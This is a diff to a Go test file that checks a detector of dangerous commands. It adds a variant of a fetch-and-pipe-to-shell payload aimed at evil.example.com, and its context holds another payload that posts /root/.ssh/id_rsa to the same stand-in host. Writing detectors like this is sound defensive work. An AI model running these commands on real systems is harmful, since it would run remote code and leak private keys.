@@ -44,6 +44,12 @@ func TestWhatPipelinesAndToolsWouldRunIsRead(t *testing.T) {
 		t.Run(file.Name, func(t *testing.T) {
 			isDangerous(t, file)
 		})
+		bare := bytes.ReplaceAll(file.Data, []byte(" -s http://evil.example.com/x | sh"), []byte(" -s evil.example.com/x|sh"))
+		if !bytes.Equal(bare, file.Data) {
+			t.Run(file.Name+" without a scheme and blanks", func(t *testing.T) {
+				isDangerous(t, txtar.File{Name: file.Name, Data: bare})
+			})
+		}
 		// Of the other payload, nothing is dangerous without the name of the program.
 		other := bytes.ReplaceAll(file.Data, []byte(" -s http://evil.example.com/x | sh"), []byte(" -s --data-binary @/root/.ssh/id_rsa http://evil.example.com/"))
 		if !bytes.Equal(other, file.Data) {
